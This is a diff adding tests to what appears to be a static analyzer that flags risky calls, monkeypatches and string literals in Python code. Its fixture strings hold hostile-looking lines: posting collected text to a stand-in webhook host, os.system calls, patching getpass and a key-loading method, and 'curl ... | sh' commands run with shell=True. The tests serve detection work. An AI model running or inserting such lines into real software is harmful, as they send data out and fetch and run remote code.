@@ -842,6 +842,23 @@ def test_a_string_that_runs_on_to_the_next_line_is_joined() -> None:
     assert any(value.startswith("first line") for value in literals)
 
 
+def test_an_f_string_that_runs_on_to_the_next_lines_is_joined() -> None:
+    # Python 3.12 and later report an f-string left open in words of their own
+    source = (
+        "import os, urllib.request\n"
+        "def report(found):\n"
+        "    text = ''\n"
+        "    for name in found:\n"
+        "        text += f'\n"
+        "**{name}**\n"
+        "';count = 1\n"
+        "    urllib.request.urlopen('https://hooks.example.org/x', data=text.encode())\n"
+        "    os.system('id')\n"
+    )
+    result = analyze(source)
+    assert {"os.system", "urllib.request.urlopen"} <= set(calls(result))
+
+
 def test_a_string_left_open_at_the_end_of_its_line_is_closed() -> None:
     source = (
         "import os\n"
@@ -1067,3 +1084,49 @@ def test_bare_strings_of_a_module_that_reads_docstrings_are_messages() -> None:
     assert shown and all(f.name == MESSAGE for f in shown)
     # an encoded blob among them is still decoded: a file can read its own strings
     assert "os.system" in calls(result)
+
+
+def test_a_function_of_the_module_put_in_place_of_another_packages_is_a_patch() -> None:
+    result = analyze(
+        "import getpass\n"
+        "import requests\n"
+        "from coinlib.keys import SigningKey\n"
+        "from pkg import other\n"
+        "def _ask(prompt=''):\n    return ''\n"
+        "def _load(secret):\n    return secret\n"
+        "getpass.getpass = _ask\n"
+        "SigningKey.from_secret = staticmethod(_load)\n"
+        "other.helper = _ask\n"  # the package's own module: not another package's
+        "requests.adapters.DEFAULT_RETRIES = 5\n"  # a setting, not a function
+        "SigningKey.label = lambda self: ''\n"  # no function of the module's
+        "def setup():\n    getpass.getpass = _ask\n"  # not in the module's top-level code
+    )
+    patched = [(f.name, f.value, f.location.line) for f in result.facts if f.kind is FactKind.PATCHED]
+    assert patched == [
+        ("getpass.getpass", "pkg.mod:_ask", 9),
+        ("coinlib.keys.SigningKey.from_secret", "pkg.mod:_load", 10),
+    ]
+
+
+def test_text_a_message_reads_through_a_name_is_a_message() -> None:
+    from capwatch.lang.base import MESSAGE
+
+    result = analyze(
+        "import subprocess\n"
+        "def start(command):\n"
+        "    try:\n"
+        "        subprocess.run([command])\n"
+        "    except FileNotFoundError as exc:\n"
+        "        hint = ''\n"
+        "        if command == 'uv':\n"
+        "            hint = ' Install it first: curl -fsSL https://tools.example.org/install | sh.'\n"
+        "        raise FileNotFoundError(f'{command!r} not found.{hint}') from exc\n"
+        "def run(cmd='curl -s https://stage.example.org/x | sh'):\n"
+        "    line = 'curl -s https://stage.example.org/y | sh'\n"
+        "    line = line.strip() or cmd\n"  # bound to more than text: still data
+        "    print(f'running {line}')\n"
+        "    subprocess.run(line, shell=True)\n"
+    )
+    texts = {f.value: f.name for f in result.facts if f.kind is FactKind.LITERAL}
+    assert texts[" Install it first: curl -fsSL https://tools.example.org/install | sh."] == MESSAGE
+    assert texts["curl -s https://stage.example.org/y | sh"] != MESSAGE
